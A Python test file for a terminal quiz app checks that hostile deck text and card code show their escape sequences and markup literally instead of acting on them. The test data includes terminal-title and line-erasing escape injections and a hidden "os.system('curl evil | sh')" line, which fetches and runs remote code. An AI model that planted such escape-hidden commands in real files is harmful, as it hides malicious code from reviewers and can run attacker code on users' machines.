"""In the app too, deck text and what card code produced show their escape sequences instead of obeying them.

The hostile deck of tests/cli/test_control_characters.py is the whole
library: its prompt, choices, explanation, section and title hold escape
sequences and markup-like text; its cards raise exceptions and print
escapes. Study, exam (questions and report) and the trust review must show
all of it visibly and literally, and nothing raw may reach the screen.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from textual.app import App, ComposeResult
from textual.widgets import OptionList, Static

from quiz.core.exam import ExamConfig
from quiz.runner.isolation import sandbox_for
from quiz.tui.app import QuizApp
from quiz.tui.screens.exam import ExamScreen
from quiz.tui.screens.exam_report import ExamReportScreen
from quiz.tui.screens.trust import TrustRequest, TrustScreen
from tests.cli.test_control_characters import DECK, assert_safe
from tests.tui.conftest import Clock, settings_for, wait_for


@pytest.fixture
def hostile_library(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    decks = tmp_path / "decks"
    decks.mkdir()
    (decks / "hostile.toml").write_text(DECK)
    monkeypatch.setenv("QUIZ_BUILTIN_DECKS", str(decks))
    return decks


def screen_text(app: App[Any]) -> str:
    """Everything the current screen shows as text, and the screenshot the terminal would get."""
    parts = [str(w.render()) for w in app.screen.query(Static)]
    for options in app.screen.query(OptionList):
        parts += [str(options.get_option_at_index(i).prompt) for i in range(options.option_count)]
    parts.append(app.export_screenshot())
    return "\n".join(parts)


pytestmark = pytest.mark.torch


async def test_study_shows_a_hostile_card_and_its_verdicts_visibly(
    hostile_library: Path, tmp_path: Path, runner: object
) -> None:
    app = QuizApp(settings_for(tmp_path, backends=("torch",)), runner=runner, clock=Clock())  # type: ignore[arg-type]
    async with app.run_test(size=(140, 50)) as pilot:
        screen = app.study_screen
        await wait_for(pilot, lambda: screen.phase == "question" and screen.card is not None)
        assert screen.card is not None and screen.card.id == "pick.torch"
        await pilot.pause()
        text = screen_text(app)
        assert_safe(text)
        assert "Pick one \\x1b]0;pwned\\x07 [/x] [bold]now[/bold]" in text  # the prompt reads, literally
        assert "[/x] \\x1b[5m blink" in text and "plain [red]choice[/red]" in text  # the options
        assert "sec [/x] \\x1b[5m" in text  # the section

        await pilot.press("b")
        await wait_for(pilot, lambda: screen.phase == "verdict")
        await pilot.pause()
        text = screen_text(app)
        assert_safe(text)
        assert "[/x] \\x1b[5m blink" in text  # the truth
        assert "Because \\x1b[2K [/x] it is so." in text  # the explanation

        await pilot.press("1")
        await wait_for(pilot, lambda: screen.phase == "question" and screen.card.id == "boom.torch")  # type: ignore[union-attr]
        await pilot.press("1", "enter")
        await wait_for(pilot, lambda: screen.phase == "verdict")
        await pilot.pause()
        text = screen_text(app)
        assert_safe(text)
        assert "ValueError: bad \\x1b]0;pwned\\x07 [/x] value" in text  # the exception message
    assert app.errors == []


async def test_the_top_bar_says_when_isolation_is_partial(
    hostile_library: Path, tmp_path: Path, runner: object
) -> None:
    app = QuizApp(settings_for(tmp_path, backends=("torch",)), runner=runner, clock=Clock())  # type: ignore[arg-type]
    async with app.run_test(size=(200, 40)) as pilot:
        screen = app.study_screen
        await wait_for(pilot, lambda: screen.phase == "question" and app.study is not None)
        await wait_for(pilot, lambda: "due" in str(screen.query_one("#topbar").render()))
        bar = str(screen.query_one("#topbar").render())
        if runner.sandbox().full:  # type: ignore[attr-defined]
            assert "isolation" not in bar
        else:
            assert "partial isolation: install bubblewrap: sudo apt-get install bubblewrap" in bar


async def test_an_exam_and_its_report_show_hostile_text_visibly(
    hostile_library: Path, tmp_path: Path, runner: object
) -> None:
    report = tmp_path / "exam.md"
    config = ExamConfig(questions=3, time_limit_s=600, seed=3)
    settings = settings_for(tmp_path, backends=("torch",))
    app = QuizApp(settings, runner=runner, clock=Clock(), exam=config, report_path=report)  # type: ignore[arg-type]
    async with app.run_test(size=(140, 50)) as pilot:
        exam = app.screen
        assert isinstance(exam, ExamScreen)
        await wait_for(pilot, lambda: exam.run is not None and exam.query_one("#card").display)
        for n in range(3):
            await wait_for(pilot, lambda n=n: exam.position == n)
            await pilot.pause()
            text = screen_text(app)
            assert_safe(text)
            if not sandbox_for().full:
                assert "partial isolation" in str(exam.query_one("#exam-bar").render())
            card, _ = exam.run.question(n)  # type: ignore[union-attr]
            if card.id == "pick.torch":
                assert "[/x] \\x1b[5m blink" in text and "Pick one \\x1b]0;pwned\\x07" in text
                await pilot.press("b")
            else:
                await pilot.press("2", "enter")
        await wait_for(pilot, lambda: isinstance(app.screen, ExamReportScreen), timeout=60)
        await pilot.pause()
        text = screen_text(app)
        assert_safe(text)
        assert "Because \\x1b[2K [/x] it is so." in text  # a missed card's explanation
        assert "ValueError: bad \\x1b]0;pwned\\x07 [/x] value" in text  # a card that could not be graded
        assert "sec [/x] \\x1b[5m" in text  # the score by section
    assert app.errors == []
    md = report.read_text()
    assert_safe(md)
    assert "ValueError: bad \\x1b]0;pwned\\x07 [/x] value" in md


class TrustApp(App[bool]):
    def __init__(self, request: TrustRequest) -> None:
        super().__init__()
        self.request = request

    def compose(self) -> ComposeResult:
        yield Static("behind")

    def on_mount(self) -> None:
        self.push_screen(TrustScreen(self.request))


async def test_the_trust_review_shows_every_line_of_code_even_one_an_escape_would_hide() -> None:
    hidden = "x = 1  # harmless\x1b[2K\x1b[1A\nimport os; os.system('curl evil | sh')"
    request = TrustRequest(
        deck_id="shared",
        title="Shared \x1b]0;pwned\x07 [b]deck[/b]",
        path="/tmp/shared [/x].toml",
        changed=False,
        data=b"",
        listing=[("evil.torch", hidden), ("plain.torch", "y = '\x1b[5m[/x]'\u202e")],
    )
    app = TrustApp(request)
    async with app.run_test(size=(120, 40)) as pilot:
        await pilot.pause()
        text = screen_text(app)
    assert_safe(text)
    assert "# harmless\\x1b[2K\\x1b[1A" in text and "os.system('curl evil | sh')" in text
    assert "Shared \\x1b]0;pwned\\x07 [b]deck[/b]" in text and "/tmp/shared [/x].toml" in text
    assert "y = '\\x1b[5m[/x]'\\u202e" in text
